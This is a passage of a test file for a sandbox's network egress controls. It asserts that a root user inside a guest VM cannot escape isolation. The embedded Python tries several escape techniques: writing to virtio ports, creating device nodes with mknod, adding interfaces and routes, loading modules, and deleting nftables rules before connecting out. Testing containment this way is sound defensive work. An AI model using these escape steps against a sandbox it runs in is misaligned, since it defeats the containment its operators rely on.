    assert.equal(r.exit_code, 0, `registry: ${r.stdout} ${r.stderr}`);
    assert.match(r.stdout, /^198\.(18|19)\.\S+\s+registry\.npmjs\.org/m);
    assert.match(r.stdout, /^200$/m);
    const [e] = await recorded(C, r.egress, [{ kind: 'connect', host: 'registry.npmjs.org', port: 443, allowed: true }], 'registry');
    assert.equal(e.sni, 'registry.npmjs.org');
    assert.ok(e.bytes_down > 1000 && e.bytes_up > 200, JSON.stringify(e));
  });

  // ---------------------------------------------------------------- vm only: the guest's root

  describe('vm: the guest\'s root', { skip: VM_ONLY('in ns the program has no capability; row 21 covers raw sockets') }, () => {
    let V;
    before(async () => {
      V = await openEgress(P.client, { network: 'allow', allow_hosts: [`good.test:${host.ports.http}`] }, 'session V');
    });

    test('row 27: root opens the channel\'s virtio port: EBUSY', T, async () => {
      const code = `
import glob
res = {}
# A minor without a port opens (the major's catch-all has no file
# operations) but takes no byte: only a write tells a port.
def try_port(p):
    try:
        fd = os.open(p, os.O_RDWR | os.O_NONBLOCK)
    except OSError as e:
        return kind(e)
    try:
        os.write(fd, b"x")
        return "written"
    except OSError as e:
        return "opened, write " + kind(e)
    finally:
        os.close(fd)
for p in sorted(glob.glob("/dev/vport*")):
    res[p] = try_port(p)
# A node of our own for the ports' major, whatever /dev shows.
major = [int(l.split()[0]) for l in open("/proc/devices") if l.split()[1:] == ["virtio-portsdev"]]
for m in range(4):
    for d in ("/dev", "/tmp"):
        n = "%s/egvp%d" % (d, m)
        try:
            os.mknod(n, 0o600 | 0o020000, os.makedev(major[0], m))
        except OSError as e:
            res[n] = "mknod " + kind(e)
            continue
        res[n] = try_port(n)
        os.unlink(n)
        break
out(res=res, major=major)`;
      const { out, eg } = await refused('row 27', () => py(V, code));
      assert.equal(out.major.length, 1, `row 27: ${JSON.stringify(out)}`);
      const vals = Object.values(out.res);
      assert.ok(!vals.includes('written'), `row 27: a port took a byte: ${JSON.stringify(out.res)}`);
      assert.ok(vals.includes('EBUSY'), `row 27: no port answered EBUSY: ${JSON.stringify(out.res)}`);
      noneAdmitted(eg, 'row 27');
    });

    test('row 26: root adds interfaces, routes, modules: nothing to reach anything with', T, async () => {
      const { http: H } = host.ports;
      const code = `
import glob, shutil
res = {}
res["dummy"] = link_add("eg0", "dummy")
res["veth"] = link_add("eg1", "veth")
try:
    os.close(os.open("/dev/net/tun", os.O_RDWR)); res["tun"] = "opened"
except OSError as e:
    res["tun"] = kind(e)
res["kos"] = [p for p in glob.glob("/lib/modules/**/*.ko*", recursive=True) + glob.glob("/usr/lib/modules/**/*.ko*", recursive=True)
              if os.path.basename(p).split(".")[0] in ("tun", "dummy", "veth", "virtio_net", "macvlan", "ipvlan", "vxlan")]
res["modprobe"] = []
mp = shutil.which("modprobe")
if mp:
    import subprocess
    res["modprobe"] = [subprocess.call([mp, m], stderr=subprocess.DEVNULL) for m in ("tun", "virtio_net", "dummy")]
res["route"] = route_add("10.0.2.0", 24)
res["links"] = sorted(os.listdir("/sys/class/net"))
res["t"] = tcp("10.0.2.2", ${H}, b"GET /hello HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n", timeout=5)
out(**res)`;
      const { out, eg } = await refused('row 26', () => py(V, code));
      assert.notEqual(out.dummy, 0, `row 26: a dummy interface was created: ${JSON.stringify(out)}`);
      assert.notEqual(out.veth, 0, `row 26: a veth pair was created: ${JSON.stringify(out)}`);
      assert.notEqual(out.tun, 'opened', `row 26: ${JSON.stringify(out)}`);
      assert.deepEqual(out.kos, [], 'row 26: network driver modules in the guest');
      for (const rc of out.modprobe) assert.notEqual(rc, 0, `row 26: modprobe: ${JSON.stringify(out)}`);
      assert.deepEqual(out.links, ['lo'], 'row 26: the guest has an interface besides lo');
      assert.notEqual(out.t.result, 'data', `row 26: 10.0.2.2 answered: ${JSON.stringify(out.t)}`);
      noneAdmitted(eg, 'row 26');
    });

    test('row 25: root removes the rules by raw netlink, then connects out', T, async () => {
      const { http: H } = host.ports;
      const code = `
first = nft_delete_table()
again = nft_delete_table()
out(first=first, again=again, raw=tcp("${RAW4}", 443, timeout=4), gw=tcp("10.0.2.2", ${H}, timeout=4),
    d=dns("good.test", server="8.8.8.8", timeout=3))`;
      const logBefore = await call(P.client, 'network_log', { session_id: V.sid });
      const { out, eg } = await refused('row 25', () => py(V, code));
      assert.equal(out.first, 0, `row 25: the rules could not be removed: ${JSON.stringify(out)}`);
      assert.equal(out.again, 2, `row 25: the table is still there after its removal: ${JSON.stringify(out)}`);
      for (const k of ['raw', 'gw']) assert.notEqual(out[k].result, 'data', `row 25 (${k}): ${JSON.stringify(out[k])}`);
      assert.ok(out.d.result, `row 25: a DNS answer came back without the rules: ${JSON.stringify(out.d)}`);
      checkEgress(eg, 'row 25');
      assert.deepEqual(events(eg).filter((e) => e.kind === 'connect'), [], 'row 25: without its rules the guest still reached the broker?');
      const logAfter = await call(P.client, 'network_log', { session_id: V.sid });
      assert.equal(logAfter.allowed.length, logBefore.allowed.length);
    });
  });
});

describe('egress: the operator\'s IGN_MCP_NET=off', { skip: TOOLS_SKIP }, () => {
  test('no mode above off; a session\'s attempts are refused as "egress is off"', T, async () => {
    const s = await startServer({ tools: true, env: { IGN_MCP_NET: 'off' } });
    try {
      const m = await callErr(s.client, 'open_session', { network: 'allow', allow_hosts: ['good.test'] });
      assert.match(m, /IGN_MCP_NET/);
      const O = await openEgress(s.client, {}, 'session O');
      const { out, eg } = await py(O, `out(d=dns("good.test", server="127.0.0.1"), t=tcp("${RAW4}", 443))`);
      assert.equal(out.d.rcode, 3, JSON.stringify(out));
      assertReset(out.t, 'off');
      const [, c] = await recorded(O, eg, [
        { kind: 'dns', name: 'good.test', allowed: false, reason: R.off },
        { kind: 'connect', port: 443, allowed: false, reason: R.off },
      ], 'off');
      assertAskedIp(c, RAW4, 'off');
    } finally {
      await s.close();
    }
  });

  test('IGN_MCP_NET=1 (the old user-mode switch) stops the server with a message', T, async () => {
    let s;
    try {
      s = await startServer({ env: { IGN_MCP_NET: '1' } });
    } catch (e) {
      assert.match(e.message, /IGN_MCP_NET/);
      return;
    }
    await s.close();
    assert.fail('the server started with IGN_MCP_NET=1');
  });
});

